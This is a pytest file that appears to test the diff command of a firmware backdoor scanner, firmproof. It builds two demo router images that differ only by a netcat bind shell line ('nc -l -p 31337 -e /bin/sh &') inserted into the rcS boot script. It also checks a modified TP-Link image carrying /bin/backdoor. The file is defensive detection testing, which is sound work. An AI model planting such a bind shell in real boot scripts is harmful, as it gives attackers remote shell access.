"""diff: two releases that differ by one planted backdoor; the real TP-Link stock/rebuilt pair."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from conftest import corpus_file, firmproof, need_tools, scan_report

from firmproof.testing.demo import PLANTS, build_rootfs
from firmproof.testing.fixtures import pack, uimage

NC_LINE = "nc -l -p 31337 -e /bin/sh &"


@pytest.fixture(scope="module")
def releases(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Release 1 and release 2 built from the same tree (same keys), release 2 with a bind shell
    added to rcS the way the demo plants it."""
    need_tools("mksquashfs", "mkimage", "openssl", "ssh-keygen")
    root = tmp_path_factory.mktemp("releases")
    old_tree = build_rootfs(root / "old", plants=[p for p in PLANTS if p != "nc-bind-shell"])
    new_tree = root / "new"
    shutil.copytree(old_tree, new_tree, symlinks=True)
    rcs = new_tree / "etc/init.d/rcS"
    lines = rcs.read_text().splitlines()
    lines.insert(lines.index("httpd -h /www -p 80"), NC_LINE)
    rcs.write_text("\n".join(lines) + "\n")
    images = []
    for name, tree in (("fw-1.0.bin", old_tree), ("fw-1.1.bin", new_tree)):
        packed = pack(tree, "squashfs-xz", root / f"{name}.sqfs")
        images.append(uimage(packed, root / name, name="firmproof demo router"))
    return images[0], images[1]


def test_diff_output_can_be_grepped(releases: tuple[Path, Path]):
    """Without --json the diff is the verb's output on standard output, and a pipe gets whole
    lines: every changed path and the added boot line on one line each, nothing folded."""
    old, new = releases
    proc = firmproof("diff", old, new)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    appeared = [line for line in lines if "FP-SVC-006" in line]
    assert len(appeared) == 1 and "/etc/init.d/rcS:" in appeared[0] and "appeared" in appeared[0]
    assert [line for line in lines if "/etc/init.d/rcS: nc -l -p 31337 -e /bin/sh" in line]
    assert not [line for line in lines if line.strip().startswith(("-p 31337", "/bin/sh"))]


def test_diff_of_two_images_names_the_backdoor_and_nothing_else(releases: tuple[Path, Path],
                                                                 tmp_path: Path):
    old, new = releases
    page = tmp_path / "diff.html"
    proc = firmproof("diff", old, new, "--json", "--html", page)
    assert proc.returncode == 0, proc.stderr
    diff = json.loads(proc.stdout)
    appeared = diff["findings"]["appeared"]
    assert [(f["rule"], f["path"]) for f in appeared] == [("FP-SVC-006", "/etc/init.d/rcS")]
    assert NC_LINE.rstrip(" &") in appeared[0]["evidence"]["excerpt"]
    assert diff["findings"]["vanished"] == [] and diff["findings"]["changed"] == []
    inventory = diff["inventory"]
    changes = {section: {kind: list(items) for kind, items in parts.items() if items}
               for section, parts in inventory.items()}
    changes = {s: c for s, c in changes.items() if c}
    assert changes["files"] == {"changed": ["/etc/init.d/rcS"]}
    assert changes["boot"] == {"added": ["/etc/init.d/rcS: nc -l -p 31337 -e /bin/sh"]}
    assert list(changes["listening"]["added"]) == ["nc: nc -l -p 31337 -e /bin/sh"]
    assert set(changes) == {"files", "boot", "listening"}
    assert diff["lines"] == {"/etc/init.d/rcS": {"removed": [], "added": [NC_LINE]}}
    assert "appeared" in proc.stderr and "FP-SVC-006" in proc.stderr     # stdout holds the JSON
    html = page.read_text()
    assert "FP-SVC-006" in html and NC_LINE.replace("&", "&amp;") in html
    assert "http://" not in html.replace("http://www.w3.org/2000/svg", "") and "<script src" not in html


def test_diff_unpacks_under_the_limits_it_is_given(releases: tuple[Path, Path]):
    """Both images are scanned under the same limits: too shallow to reach the SquashFS inside
    the uImage, neither release shows a finding, so none appears."""
    old, new = releases
    proc = firmproof("diff", old, new, "--json", "--max-depth", "1")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["findings"]["appeared"] == []


def test_diff_of_reports_matches_findings_by_place_not_id(releases: tuple[Path, Path], tmp_path: Path):
    old, new = releases
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    before = scan_report(old, tmp_path / "a")
    after = scan_report(new, tmp_path / "b")
    # ids name the image: none survives the release, yet only the bind shell is new
    assert not {f["id"] for f in before["findings"]} & {f["id"] for f in after["findings"]}
    proc = firmproof("diff", tmp_path / "a/report.json", tmp_path / "b/report.json", "--json")
    assert proc.returncode == 0, proc.stderr
    diff = json.loads(proc.stdout)
    assert [f["rule"] for f in diff["findings"]["appeared"]] == ["FP-SVC-006"]
    assert diff["findings"]["vanished"] == [] and diff["inventory"] is None
    assert diff["old"]["kind"] == diff["new"]["kind"] == "report"


def test_diff_of_unreadable_input_exits_2(releases: tuple[Path, Path], tmp_path: Path):
    (tmp_path / "bad.json").write_text('{"schema": "nothing"}')
    for args in [(tmp_path / "missing.bin", releases[1]), (tmp_path / "bad.json", releases[1])]:
        proc = firmproof("diff", *args)
        assert proc.returncode == 2 and proc.stderr.startswith("firmproof: "), proc.stderr
        assert "Traceback" not in proc.stderr


@pytest.mark.corpus
def test_tplink_stock_against_its_bind_shell_rebuild():
    stock = corpus_file("tplink_tl-wr841n-v14-eu_stock_2023.bin")
    rebuilt = corpus_file("tplink_tl-wr841n-v14-eu_MODIFIED_bindshell9999.bin")
    proc = firmproof("diff", stock, rebuilt, "--json")
    assert proc.returncode == 0, proc.stderr
    diff = json.loads(proc.stdout)
    inventory = diff["inventory"]
    assert "/bin/backdoor" in inventory["files"]["added"]
    assert "/bin/backdoor" in inventory["executables"]["added"]
    assert list(inventory["files"]["changed"]) == ["/etc/init.d/rcS"]
    assert "/bin/backdoor &" in diff["lines"]["/etc/init.d/rcS"]["added"]
    assert diff["lines"]["/etc/init.d/rcS"]["removed"] == []
    assert any(k.endswith(": /bin/backdoor") for k in inventory["boot"]["added"])
    # the rest of what the rebuild changed is listed too
    assert {"/bin/hello", "/firmadyne/libnvram.so"} <= set(inventory["files"]["added"])
    assert inventory["files"]["removed"] == {}
    appeared = {(f["rule"], f["path"]) for f in diff["findings"]["appeared"]}
    assert ("FP-SVC-008", "/etc/init.d/rcS") in appeared


def test_what_is_read_as_a_report(tmp_path: Path):
    """A .json file, or one whose first non-blank byte (after a UTF-8 BOM) is `{` or `[`, is a
    report, so that a broken report gets the report's error rather than being scanned."""
    from firmproof.evidence.diff import _is_report

    cases = {"a.json": b"\x00\x01 not json at all", "b.bin": b"\n\n   {\"schema\": 1}",
             "c.bin": b"\xef\xbb\xbf[1]", "d.bin": b" " * 1000 + b"{",
             "e.bin": b"\x27\x05\x19\x56 uImage", "f.bin": b"", "g.bin": b"hsqs{"}
    for name, content in cases.items():
        (tmp_path / name).write_bytes(content)
    assert {name for name in cases if _is_report(tmp_path / name)} == {"a.json", "b.bin", "c.bin", "d.bin"}
    assert not _is_report(tmp_path / "missing.bin")
